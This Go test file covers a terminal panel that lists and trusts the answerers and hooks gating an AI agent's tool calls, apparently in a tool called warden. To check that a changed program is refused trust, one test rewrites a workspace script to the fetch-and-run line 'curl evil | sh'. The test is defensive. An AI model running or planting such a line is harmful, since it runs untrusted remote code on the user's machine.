package tui

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/warden-dev/warden/backend/gate/lineup"
	"github.com/warden-dev/warden/backend/runtime"
	"github.com/warden-dev/warden/backend/store"
)

// answererRig is a rig whose user config names a command answerer (a
// real program in the read-only cage that passes every ask), a reviewer
// model that cannot start (no API key) and an after-call hook, in a
// workspace that brings an answerer of its own (not trusted yet). Paths
// are fixed, so the golden screens are the same on every run.
func answererRig(t *testing.T, w, h int) *rig {
	t.Helper()
	t.Setenv("ANTHROPIC_API_KEY", "")
	base := filepath.Join(os.TempDir(), "warden-tui-golden-answerers")
	os.RemoveAll(base)
	t.Cleanup(func() { os.RemoveAll(base) })
	ws, cfgDir := filepath.Join(base, "ws"), filepath.Join(base, "config")
	for _, d := range []string{filepath.Join(ws, ".warden"), cfgDir} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{
		filepath.Join(cfgDir, "config.toml"): `[[answerers]]
kind = "command"
name = "corp-check"
command = ["/bin/sh", "-c", "cat >/dev/null; echo '{\"answer\":\"pass\",\"reason\":\"not mine to say\"}'"]
timeout = "30s"

[[answerers]]
kind = "model"
name = "reviewer"
model = "anthropic:claude-haiku-4-5"
budget = 50

[[hooks]]
name = "audit-log"
when = "after"
command = ["/bin/true"]
tools = ["shell.exec"]
`,
		filepath.Join(ws, ".warden", "config.toml"): `[[answerers]]
kind = "command"
name = "ws-guard"
command = ["./guard.sh"]
`,
		filepath.Join(ws, "guard.sh"): "#!/bin/sh\necho '{\"answer\":\"allow\"}'\n",
	}
	for p, body := range files {
		if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	r := newRigConfig(t, ws, scriptTurns(t, "rm -rf build"), filepath.Join(cfgDir, "config.toml"))
	r.m.Update(tea.WindowSizeMsg{Width: w, Height: h})
	return r
}

// masked hides what differs between runs, clock times and latencies,
// keeping each line's width (the box's right edge stays in place).
func masked(s string) string {
	lines := strings.Split(s, "\n")
	for i, l := range lines {
		m := regexp.MustCompile(`\d\d:\d\d:\d\d`).ReplaceAllString(l, "hh:mm:ss")
		m = regexp.MustCompile(`· \d+(\.\d)? (ms|s)`).ReplaceAllString(m, "· N ms")
		if d := textWidth(l) - textWidth(m); d != 0 && strings.HasSuffix(m, " │") {
			body := strings.TrimSuffix(m, "│")
			if d > 0 {
				body += strings.Repeat(" ", d)
			} else {
				body = strings.TrimSuffix(body, strings.Repeat(" ", -d))
			}
			m = body + "│"
		}
		lines[i] = m
	}
	return strings.Join(lines, "\n")
}

// /answerers lists the configured answerers and hooks with their state in
// the window's words, the order they are asked in, and their last answers;
// the panel re-reads itself when an answer arrives (no reopening).
func TestAnswerersPanel(t *testing.T) {
	for _, size := range [][2]int{{80, 24}, {120, 40}} {
		r := answererRig(t, size[0], size[1])
		r.typeText("/answerers")
		r.key("enter")
		if r.m.panel != panelAnswerers {
			t.Fatalf("/answerers opened panel %v", r.m.panel)
		}
		if s := r.screen(); strings.Contains(s, "Last answers") {
			t.Fatalf("answers before any ask:\n%s", s)
		}
		// With the panel open, a prompt starts a turn whose ask the
		// command answerer passes on: the panel shows its answer as it
		// arrives.
		r.typeText("clean the build folder")
		r.key("enter")
		r.pump("the answer in the panel", func(m *Model) bool { return m.answerers != nil && len(m.answerers.Last) == 1 })
		r.pumpAsk()
		r.key("esc") // the panel closes; the ask is there
		r.arm()
		r.key("y")
		r.pump("the turn's end", func(m *Model) bool { return !m.busy && len(m.Queue()) == 0 })
		if exists(filepath.Join(r.ws, "build")) {
			t.Fatal("build/ is still there after Allow")
		}
		r.typeText("/answerers")
		r.key("enter")
		s := r.screen()
		all := strings.Join(strings.Fields(ansi.Strip(strings.Join(first(r.m.answererContent(size[0]-4)), "\n"))), " ")
		if !strings.Contains(s, "╭─ Answerers and hooks ─") {
			t.Errorf("no panel:\n%s", s)
		}
		for _, want := range []string{
			"Asked in this order: corp-check → you",
			"corp-check · command answerer · Active",
			"reviewer · reviewer model · Cannot start",
			"ws-guard · command answerer · Not trusted yet — does not run",
			"Configured in: your config (",
			"Runs: /bin/sh -c 'cat >/dev/null; echo",
			"Why:", // the reviewer's: why it cannot start
			"audit-log · after-call hook · Active",
			"Tools: shell.exec",
			"Last answers",
			"command `corp-check` passed shell.exec",
		} {
			if !strings.Contains(all, want) {
				t.Errorf("%dx%d: the panel lacks %q:\n%s", size[0], size[1], want, all)
			}
		}
		name := "answerers-" + itoa(size[0]) + "x" + itoa(size[1])
		checkGolden(t, filepath.Join("testdata", "golden", name+".txt"), masked(s), size[0], size[1])
		// ↓ chooses the next entry; the last one brings the last answers
		// into sight.
		for range 60 {
			r.key("down")
		}
		s = r.screen()
		for _, want := range []string{"› audit-log · after-call hook · Active", "Last answers", "command `corp-check` passed shell.exec", "not mine to say"} {
			if !strings.Contains(strings.Join(strings.Fields(s), " "), want) {
				t.Errorf("%dx%d scrolled: the panel lacks %q:\n%s", size[0], size[1], want, s)
			}
		}
		checkGolden(t, filepath.Join("testdata", "golden", name+"-end.txt"), masked(s), size[0], size[1])
		r.key("esc")
		if r.m.panel != panelNone {
			t.Errorf("Esc left panel %v", r.m.panel)
		}
	}
}

// flat is a screen's words in one line, without the box's edges.
func flat(s string) string {
	return strings.Join(strings.Fields(strings.ReplaceAll(s, "│", " ")), " ")
}

func first[A, B any](a A, _ B) A { return a }

// A workspace's answerer is trusted from the panel as from the window:
// choosing it shows its program, t asks first with the window's words, y
// trusts it for what was shown (it joins the order), x takes the trust
// back; a program changed after it was shown is refused, in words.
func TestAnswerersPanelTrust(t *testing.T) {
	r := answererRig(t, 120, 40)
	r.typeText("/answerers")
	r.key("enter")
	r.key("down")
	r.key("down")
	s := r.screen()
	for _, want := range []string{"t trusts ws-guard", "› ws-guard", "Program " + filepath.Join(r.ws, "guard.sh") + ":", `echo '{"answer":"allow"}'`} {
		if !strings.Contains(s, want) {
			t.Errorf("chosen entry lacks %q:\n%s", want, s)
		}
	}
	checkGolden(t, filepath.Join("testdata", "golden", "answerers-chosen-120x40.txt"), s, 120, 40)
	r.key("t")
	s = flat(r.screen())
	for _, want := range []string{"Trust this answerer?", `Trust the command answerer "ws-guard" from this workspace's config`,
		"Warden will run `./guard.sh` for every ask in this workspace, before you are asked, in the read-only sandbox with no network.",
		"It can only answer asks the sandbox already admits.", "y trust and run it"} {
		if !strings.Contains(s, want) {
			t.Errorf("the question lacks %q:\n%s", want, r.screen())
		}
	}
	r.key("y")
	s = flat(r.screen())
	for _, want := range []string{"ws-guard · command answerer · Active", "Asked in this order: corp-check → ws-guard → you", `Trusted the command answerer "ws-guard"`,
		"x stops trusting ws-guard"} {
		if !strings.Contains(s, want) {
			t.Errorf("after trust, lacks %q:\n%s", want, r.screen())
		}
	}
	if n := len(r.events(store.KindAnswererTrusted)); n != 1 {
		t.Errorf("%d answerer_trusted events", n)
	}
	r.key("x")
	r.key("y")
	if s := flat(r.screen()); !strings.Contains(s, "ws-guard · command answerer · Not trusted yet — does not run") {
		t.Errorf("after untrust:\n%s", r.screen())
	}
	// The program changes after the panel showed it: the trust is refused.
	if err := os.WriteFile(filepath.Join(r.ws, "guard.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	r.key("t")
	r.key("y")
	s = flat(r.screen())
	if !strings.Contains(s, "changed since it was shown to you") || !strings.Contains(s, "curl evil | sh") || strings.Contains(s, "ws-guard · command answerer · Active") {
		t.Errorf("a changed program was trusted, or the refusal is not shown:\n%s", r.screen())
	}
	if n := len(r.events(store.KindAnswererTrusted)); n != 1 {
		t.Errorf("%d answerer_trusted events after the refusal", n)
	}
}

// An empty roster says every ask comes to the human and how to add one.
func TestAnswerersPanelEmpty(t *testing.T) {
	r := newRig(t)
	r.typeText("/answerers")
	r.key("enter")
	s := flat(r.screen())
	for _, want := range []string{"None configured: every ask comes to you.", "[[answerers]]", `kind = "command"`} {
		if !strings.Contains(s, want) {
			t.Errorf("empty panel lacks %q:\n%s", want, r.screen())
		}
	}
}

func TestCommandLine(t *testing.T) {
	cases := []struct {
		name string
		argv []string
		want string
	}{
		{"plain words", []string{"/opt/corp/check", "--strict"}, "/opt/corp/check --strict"},
		{"a space is quoted", []string{"sh", "-c", "echo hi"}, "sh -c 'echo hi'"},
		{"a quote inside", []string{"echo", "it's"}, `echo 'it'\''s'`},
		{"empty argument", []string{"x", ""}, "x ''"},
		{"shell metacharacters", []string{"a;b", "$HOME", "*"}, "'a;b' '$HOME' '*'"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := commandLine(c.argv); got != c.want {
				t.Errorf("got %q want %q", got, c.want)
			}
		})
	}
}

func TestParseAnswerersCommand(t *testing.T) {
	for _, c := range []struct {
		in   string
		want CommandKind
	}{{"/answerers", CmdAnswerers}, {"  /Answerers ", CmdAnswerers}, {"/answerer", CmdAnswerers}, {"/hooks", CmdAnswerers},
		{"/answerersx", CmdUnknown}, {"answerers", CmdPrompt}} {
		t.Run(c.in, func(t *testing.T) {
			if got := ParseComposer(c.in).Kind; got != c.want {
				t.Errorf("%q parsed as %v, want %v", c.in, got, c.want)
			}
		})
	}
}

// The panel's words for every kind of entry, state and answer, drawn from
// a roster as the backend sends it (the window's AnswerersPanel table, in
// the terminal): what each line says, what keys the chosen entry offers.
func TestAnswererContentCases(t *testing.T) {
	cfg, wsFile := "/home/u/.config/warden/config.toml", "/work/proj/.warden/config.toml"
	user := lineup.AnswererEntry{Role: "answerer", Kind: "command", Name: "corp-check", Tier: "user", File: cfg,
		Command: []string{"/opt/corp/check", "--strict"}, Timeout: "10s", State: lineup.StateActive}
	ws := lineup.AnswererEntry{Role: "answerer", Kind: "command", Name: "lint-guard", Tier: "workspace", File: wsFile,
		Command: []string{"./scripts/guard.sh", "two words"}, State: lineup.StateUntrusted, Note: "trust it first",
		ConfigHash: "sha256:c0ffee", ProgramHash: "sha256:beef",
		Program: []lineup.AnswererProgram{{Path: "/work/proj/scripts/guard.sh", Text: "#!/bin/sh\necho '{\"answer\":\"pass\"}'\n"}}}
	with := func(e lineup.AnswererEntry, f func(*lineup.AnswererEntry)) lineup.AnswererEntry { f(&e); return e }
	cases := []struct {
		name   string
		roster lineup.AnswererRoster
		org    *runtime.OrgInfo
		sel    int
		want   []string
		absent []string
	}{
		{name: "an active user answerer, the order ending at you",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{user}, HumanLast: "you"},
			want:   []string{"corp-check · command answerer · Active", "Configured in: your config (" + cfg + ")", "Runs: /opt/corp/check --strict", "Timeout: 10s", "Asked in this order: corp-check → you"},
			absent: []string{"t trusts", "x stops trusting", "Hooks", "Last answers"}},
		{name: "a reviewer with its budget and breaker",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{with(user, func(e *lineup.AnswererEntry) {
				e.Kind, e.Name, e.Command, e.Model, e.Budget, e.Status = "model", "reviewer", nil, "anthropic:claude-haiku-4-5", 200, "breaker tripped: 3 denials in a row; asks go to you"
			})}},
			want: []string{"reviewer · reviewer model · Active", "Model: anthropic:claude-haiku-4-5 · reviews up to 200 asks a session", "This session: breaker tripped: 3 denials in a row; asks go to you"}},
		{name: "an untrusted workspace answerer, chosen: its program, t, not in the order",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{user, ws}, HumanLast: "you"}, sel: 1,
			want: []string{"t trusts lint-guard", "› lint-guard · command answerer · Not trusted yet — does not run", "Configured in: this workspace's config (" + wsFile + ")",
				"Runs: ./scripts/guard.sh 'two words'", "Program /work/proj/scripts/guard.sh:", `echo '{"answer":"pass"}'`, "Asked in this order: corp-check → you"}},
		{name: "an untrusted entry, not chosen, shows no program",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{user, ws}}, sel: 0,
			want: []string{"• lint-guard"}, absent: []string{"Program /work/proj", "t trusts"}},
		{name: "a changed workspace hook is offered trust again",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{with(ws, func(e *lineup.AnswererEntry) {
				e.Role, e.Kind, e.Name, e.State, e.Tools = "hook", "before", "corp-guard", lineup.StateChanged, []string{"shell.exec"}
			})}},
			want: []string{"corp-guard · pre-call hook · Changed since you trusted it — does not run", "Tools: shell.exec", "Hooks", "t trusts corp-guard"}, absent: []string{"Asked in this order"}},
		{name: "a trusted workspace hook can be untrusted",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{with(user, func(e *lineup.AnswererEntry) {
				e.Role, e.Kind, e.Name, e.Tier, e.File = "hook", "after", "log", "workspace", wsFile
			})}},
			want: []string{"log · after-call hook · Active", "x stops trusting log"}},
		{name: "no hashes, no trust",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{with(ws, func(e *lineup.AnswererEntry) { e.ConfigHash, e.Note = "", "its program /work/proj/x is missing" })}},
			want:   []string{"Why: its program /work/proj/x is missing"}, absent: []string{"t trusts"}},
		{name: "not allowed by the organisation, with its allowance",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{with(user, func(e *lineup.AnswererEntry) {
				e.State, e.Note = lineup.StateNotAllowed, "your organisation does not allow command answerers"
			})}, HumanLast: "you"},
			org:  &runtime.OrgInfo{File: "/etc/warden/policy.toml", Answerers: []string{"human", "model"}},
			want: []string{"Your organisation allows these answerers: human, model (set in /etc/warden/policy.toml)", "Not allowed by your organisation", "Asked in this order: you"}},
		{name: "broken and left out say why",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{
				with(user, func(e *lineup.AnswererEntry) {
					e.State, e.Note = lineup.StateBroken, "program /opt/corp/check not found"
				}),
				with(user, func(e *lineup.AnswererEntry) {
					e.Kind, e.Name, e.Tier, e.Command, e.Model, e.State, e.Note = "model", "ws-reviewer", "workspace", nil, "anthropic:x", lineup.StateLeftOut, "a workspace may not name a reviewer model"
				})}},
			want: []string{"corp-check · command answerer · Cannot start", "Why: program /opt/corp/check not found", "ws-reviewer · reviewer model · Ignored", "a workspace may not name a reviewer model"}},
		{name: "headless: the order ends in a denial; answers of every kind",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{user}, HumanLast: "nobody: with no human attached, an ask the answerers pass is denied",
				Last: []lineup.AnswererRecord{
					{Tool: "shell.exec", Kind: "command", Name: "corp-check", Answer: "deny", Reason: "curl is not allowed here", LatencyMs: 1500},
					{Tool: "fs.write", Kind: "hook", Name: "corp-guard", Answer: "ask", LatencyMs: 12},
					{Tool: "fs.read", Kind: "model", Answer: "allow", Reason: "a read", LatencyMs: 900},
				}},
			want: []string{"corp-check → nobody: with no human attached", "command `corp-check` denied shell.exec · 1.5 s: curl is not allowed here",
				"hook `corp-guard` asked you fs.write · 12 ms", "model allowed fs.read · 900 ms: a read"}},
		{name: "a name with a bidi control is revealed",
			roster: lineup.AnswererRoster{Entries: []lineup.AnswererEntry{with(user, func(e *lineup.AnswererEntry) { e.Name = "corp\u202echeck" })}},
			want:   []string{"corp⟨U+202E⟩check · command answerer"}, absent: []string{"\u202e"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			m := &Model{th: newTheme(), answerers: &c.roster, sel: c.sel}
			if c.org != nil {
				m.info.Org = c.org
			}
			s := flat(ansi.Strip(strings.Join(m.answererLines(100, 200), "\n")))
			for _, w := range c.want {
				if !strings.Contains(s, w) {
					t.Errorf("lacks %q:\n%s", w, s)
				}
			}
			for _, a := range c.absent {
				if strings.Contains(s, a) {
					t.Errorf("has %q:\n%s", a, s)
				}
			}
		})
	}
}
